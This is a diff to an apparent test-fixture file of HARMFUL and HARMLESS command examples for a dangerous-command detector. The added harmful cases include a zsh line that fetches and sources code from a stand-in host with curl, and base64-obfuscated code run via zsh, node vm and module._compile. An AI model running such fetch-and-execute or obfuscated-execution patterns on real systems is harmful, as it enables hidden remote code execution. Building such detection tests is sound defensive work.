@@ -3,6 +3,14 @@
 from __future__ import annotations
 
 HARMFUL: tuple[tuple[str, ...], ...] = (
+    ("zsh", "-c", "zsh =(base64 -d <<<d2hpbGUgOjsgZG8gc2xlZXAgNTsgZG9uZQo=); :"),
+    ("zsh", "-c", "source =(curl -s http://192.0.2.1/x); sleep 9"),
+    (
+        "node",
+        "-e",
+        'require("vm").runInThisContext(Buffer.from("c2V0SW50ZXJ2YWwoKCk9Pnt9LDkp","base64")+"")',
+    ),
+    ("node", "-e", "m=new module.constructor();m._compile(atob('YT0xOzE7MTsxOzE7'),'')"),
     (
         "python3",
         "-c",
@@ -255,6 +263,9 @@ HARMFUL: tuple[tuple[str, ...], ...] = (
 )
 
 HARMLESS: tuple[tuple[str, ...], ...] = (
+    ("zsh", "-c", "diff =(ls /srv) =(ls /tmp); vimdiff =(sort a) b"),
+    ("bash", "-c", "declare -a m=(a b c); m+=(base64 -d); [[ $x =~ (a|b) ]]; sleep 9"),
+    ("node", "-e", "new (require('vm').Script)('1+1').runInNewContext({})"),
     ("/usr/bin/bash", "-e", "/home/runner/work/_temp/3f2a.sh"),
     (
         "/usr/bin/bash",
